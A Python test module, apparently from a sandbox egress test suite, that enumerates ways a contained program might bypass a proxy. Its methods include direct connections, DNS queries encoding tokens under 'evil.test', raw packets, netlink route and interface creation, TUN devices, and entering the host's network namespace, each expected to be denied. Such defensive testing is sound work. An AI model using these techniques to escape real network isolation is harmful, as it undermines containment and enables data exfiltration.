"""Around the proxy: whatever a program does that has never heard of one."""

import ctypes
import fcntl
import os
import socket
import struct

import addresses
import wire
from attempt import THROUGH, Attempt, Denied

NO_WAY = "ENETUNREACH|EADDRNOTAVAIL|EHOSTUNREACH"
NOT_ALLOWED = "EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT|ESOCKTNOSUPPORT|ENOSYS"
NOT_THERE = "ENOENT|ENODEV|ENXIO|ECONNREFUSED|" + NOT_ALLOWED
ETH_P_IP, TUNSETIFF, IFF_TUN = 0x0800, 0x400454CA, 0x1001
IPPROTO_MPTCP, MSG_FASTOPEN = 262, 0x20000000
CLONE_NEWNET = 0x40000000


def tcp(address, port, use=wire.fetch):
    return lambda token: use(socket.create_connection((address, port)), token)


def udp(address, port):
    def make(token):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as stream:
            stream.connect((address, port))
            stream.send(query(token) if port == 53 else token.encode())
            stream.recv(65536)
        return THROUGH

    return make


def query(token):
    """A question for the addresses of a name."""
    name = b"".join(bytes([len(label)]) + label.encode() for label in (token, "evil", "test"))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 1, 1)


def ask_in_a_stream(stream, token):
    question = query(token)
    stream.sendall(struct.pack("!H", len(question)) + question)
    wire.more(stream)
    return THROUGH


def ask_over_tls(stream, token):
    return ask_in_a_stream(wire.secured(stream, None), token)


def ask_over_https(stream, token, host="dns.test"):
    stream = wire.secured(stream, None)
    question = query(token)
    head = f"POST /dns-query HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(question)}\r\n\r\n"
    stream.sendall(head.encode() + question)
    return wire.verdict(wire.answers(stream, 1))


def fetch_over_tls(stream, token):
    return wire.fetch(wire.secured(stream, f"{token}.evil.test"), token)


def resolve(token):
    socket.getaddrinfo(f"{token}.evil.test", 80)
    return THROUGH


def quic(token):
    """The first packet of QUIC version 1, as long as it has to be."""
    packet = (
        bytes([0xC0, 0, 0, 0, 1, 8])
        + os.urandom(8)
        + b"\0\0"
        + struct.pack("!H", 0x44B0)
        + token.encode()
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.sendto(packet.ljust(1200, b"\0"), (addresses.EVIL, 443))
        stream.recv(65536)
    return THROUGH


def fast_open(token):
    with socket.socket() as stream:
        stream.settimeout(None)  # with one, Python has the kernel not wait for the connection
        request = f"GET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n".encode()
        stream.sendto(request, MSG_FASTOPEN, (addresses.EVIL, 80))
        return wire.verdict(wire.answers(stream, 1))


def multipath(token):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as stream:
        stream.connect((addresses.EVIL, 80))
        return wire.fetch(stream, token)


def datagram(token):
    """An IPv4 packet with a UDP datagram in it, made by hand."""
    payload = token.encode()
    udp = struct.pack("!4H", 4242, 443, 8 + len(payload), 0) + payload
    source, destination = socket.inet_aton(addresses.HOST), socket.inet_aton(addresses.EVIL)
    head = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        1,
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        source,
        destination,
    )
    return head[:10] + checksum(head) + head[12:] + udp


def checksum(data):
    """The Internet's, RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF)


def raw_ip(token):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as stream:
        stream.sendto(datagram(token), (addresses.EVIL, 0))
    return THROUGH


def echo_request(kind):
    def make(token):
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as stream:
            packet = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + token.encode().ljust(16)
            stream.sendto(packet[:2] + checksum(packet) + packet[4:], (addresses.EVIL, 0))
            stream.recv(65536)
        return THROUGH

    return make


def frame(token):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as stream:
        names = [name for _, name in socket.if_nameindex() if name != "lo"]
        if not names:
            raise Denied("ENODEV")
        # The way to the world, where there is one.
        stream.sendto(
            datagram(token), ("host" if "host" in names else names[0], ETH_P_IP, 0, 0, b"\xff" * 6)
        )
    return THROUGH


def netlink(kind, body, flags=0x0605):
    """Asks the kernel for something new in the network, and for an answer: rtnetlink(7)."""

    def make(_token):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as stream:
            stream.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
            answer = stream.recv(65536)
            number = struct.unpack_from("=i", answer, 16)[0]
            if number:
                raise OSError(-number, os.strerror(-number))
        return THROUGH

    return make


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data.ljust((len(data) + 3) & ~3, b"\0")


def new_interface(kind):
    """RTM_NEWLINK of an interface of this kind, with a name that the kernel chooses."""
    kinds = attribute(18, attribute(1, kind + b"\0"))
    return netlink(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + kinds)


def new_route():
    """RTM_NEWROUTE: addresses that nobody has, through whichever interface is the first."""
    route = struct.pack("=8BI", socket.AF_INET, 24, 0, 0, 254, 4, 253, 1, 0)
    return netlink(
        24,
        route + attribute(1, socket.inet_aton("11.22.44.0")) + attribute(4, struct.pack("=i", 1)),
    )


def tunnel_device(_token):
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        fcntl.ioctl(device, TUNSETIFF, struct.pack("16sH14x", b"attempt%d", IFF_TUN))
    return THROUGH


def enter_network_of(path):
    def make(_token):
        system = ctypes.CDLL(None, use_errno=True)
        with open(path) as namespace, open("/proc/thread-self/ns/net") as own:
            if system.setns(namespace.fileno(), CLONE_NEWNET):
                number = ctypes.get_errno()
                raise OSError(number, os.strerror(number))
            # Whoever makes the next attempt on this thread makes it from where it belongs.
            assert system.setns(own.fileno(), CLONE_NEWNET) == 0
        return THROUGH

    return make


def unix_socket(address):
    def make(token):
        with socket.socket(socket.AF_UNIX) as stream:
            stream.connect(address)
            return wire.fetch(stream, token)

    return make


def virtual_machine_socket(_token):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as stream:
        stream.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
    return THROUGH


# What of the host the caller knows of.
HOST_SOCKET, HOST_PROCESS = os.environ.get("HOST_SOCKET", ""), os.environ.get("HOST_PROCESS", "")

ATTEMPTS = [
    Attempt(
        "direct-http",
        "connect to a server without asking the proxy",
        tcp(addresses.EVIL, 80),
        NO_WAY,
    ),
    Attempt(
        "direct-https",
        "speak TLS to a server without asking the proxy",
        tcp(addresses.EVIL, 443, fetch_over_tls),
        NO_WAY,
    ),
    Attempt(
        "direct-allowed",
        "connect to an allowed server without asking the proxy",
        tcp(addresses.GOOD, 80),
        NO_WAY,
    ),
    Attempt("direct-ssh", "connect to port 22", tcp(addresses.EVIL, 22, wire.talk), NO_WAY),
    Attempt("direct-smtp", "connect to port 25", tcp(addresses.EVIL, 25, wire.talk), NO_WAY),
    Attempt("direct-ftp", "connect to port 21", tcp(addresses.EVIL, 21, wire.talk), NO_WAY),
    Attempt("direct-ipv6", "connect over IPv6", tcp(addresses.EVIL6, 80), NO_WAY, needs="ipv6"),
    Attempt(
        "direct-mapped",
        "connect to an IPv4 address in the clothes of IPv6",
        tcp(f"::ffff:{addresses.EVIL}", 80),
        NO_WAY,
        needs="ipv6",
    ),
    Attempt(
        "direct-fast-open", "send data with the first packet of a connection", fast_open, NO_WAY
    ),
    Attempt("direct-multipath", "connect with Multipath TCP", multipath, f"{NO_WAY}|{NOT_ALLOWED}"),
    Attempt(
        "direct-private", "connect to a private address", tcp(addresses.PRIVATE[0], 80), NO_WAY
    ),
    Attempt(
        "direct-unique-local",
        "connect to a unique local address",
        tcp(addresses.UNIQUE_LOCAL, 80),
        NO_WAY,
        needs="ipv6",
    ),
    Attempt(
        "direct-metadata", "connect to the metadata service", tcp(addresses.METADATA, 80), NO_WAY
    ),
    Attempt(
        "direct-metadata-ipv6",
        "connect to the metadata service over IPv6",
        tcp(addresses.METADATA6, 80),
        NO_WAY,
        needs="ipv6",
    ),
    Attempt(
        "direct-gateway", "connect to the host at its own address", tcp(addresses.HOST, 80), NO_WAY
    ),
    Attempt(
        "direct-loopback",
        "connect to the host's loopback address",
        tcp("127.0.0.1", 80),
        "ECONNREFUSED",
    ),
    Attempt(
        "direct-loopback-ipv6",
        "connect to the host's IPv6 loopback address",
        tcp("::1", 80),
        f"ECONNREFUSED|{NO_WAY}",
        needs="ipv6",
    ),
    Attempt(
        "direct-unspecified",
        "connect to no address, which is the host's own",
        tcp("0.0.0.0", 80),
        f"ECONNREFUSED|{NO_WAY}",
    ),
    Attempt("udp", "send a datagram", udp(addresses.EVIL, 443), NO_WAY),
    Attempt(
        "udp-ipv6", "send a datagram over IPv6", udp(addresses.EVIL6, 443), NO_WAY, needs="ipv6"
    ),
    Attempt("quic", "begin a QUIC connection", quic, NO_WAY),
    Attempt("dns-udp", "ask a name server", udp(addresses.RESOLVER, 53), NO_WAY),
    Attempt(
        "dns-udp-ipv6",
        "ask a name server over IPv6",
        udp(addresses.RESOLVER6, 53),
        NO_WAY,
        needs="ipv6",
    ),
    Attempt(
        "dns-elsewhere", "ask a name server that nobody configured", udp(addresses.EVIL, 53), NO_WAY
    ),
    Attempt(
        "dns-tcp",
        "ask a name server over TCP",
        tcp(addresses.RESOLVER, 53, ask_in_a_stream),
        NO_WAY,
    ),
    Attempt(
        "dns-tls", "ask a name server over TLS", tcp(addresses.RESOLVER, 853, ask_over_tls), NO_WAY
    ),
    Attempt(
        "dns-https",
        "ask a name server over HTTPS",
        tcp(addresses.RESOLVER, 443, ask_over_https),
        NO_WAY,
    ),
    Attempt(
        "dns-system",
        "have the system resolve a name",
        resolve,
        "EAI_AGAIN|EAI_NONAME|EAI_FAIL|EAI_SYSTEM|EAI_NODATA",
    ),
    Attempt("raw-ip", "send a packet made by hand", raw_ip, f"{NO_WAY}|{NOT_ALLOWED}"),
    Attempt(
        "raw-icmp",
        "send an echo request through a raw socket",
        echo_request(socket.SOCK_RAW),
        f"{NO_WAY}|{NOT_ALLOWED}",
        nowhere="",
    ),
    Attempt("raw-frame", "send a frame to a network card", frame, f"ENODEV|{NOT_ALLOWED}"),
    Attempt(
        "new-interface", "make a network interface", new_interface(b"veth"), NOT_ALLOWED, nowhere=""
    ),
    Attempt(
        "new-bridge",
        "make a bridge",
        new_interface(b"bridge"),
        f"{NOT_ALLOWED}|EOPNOTSUPP",
        nowhere="",
    ),
    Attempt("new-route", "add a route", new_route(), NOT_ALLOWED, nowhere=""),
    Attempt("tunnel-device", "make a tunnel device", tunnel_device, NOT_THERE, nowhere=""),
    Attempt(
        "enter-host",
        "enter the network of a process of the host",
        enter_network_of(f"/proc/{HOST_PROCESS}/ns/net"),
        NOT_THERE,
        nowhere="",
    ),
    Attempt(
        "enter-parent",
        "enter the network of the parent",
        enter_network_of(f"/proc/{os.getppid()}/ns/net"),
        NOT_THERE,
        nowhere="",
    ),
    Attempt(
        "virtual-machine-socket",
        "make a socket to the virtual machine's host",
        virtual_machine_socket,
        NOT_ALLOWED,
        nowhere="",
    ),
    Attempt(
        "abstract-socket",
        "connect to an abstract Unix socket of the host",
        unix_socket(addresses.ABSTRACT_SOCKET),
        NOT_THERE,
    ),
    Attempt(
        "socket-file",
        "connect to a Unix socket of the host by its path",
        unix_socket(HOST_SOCKET),
        NOT_THERE,
    ),
]
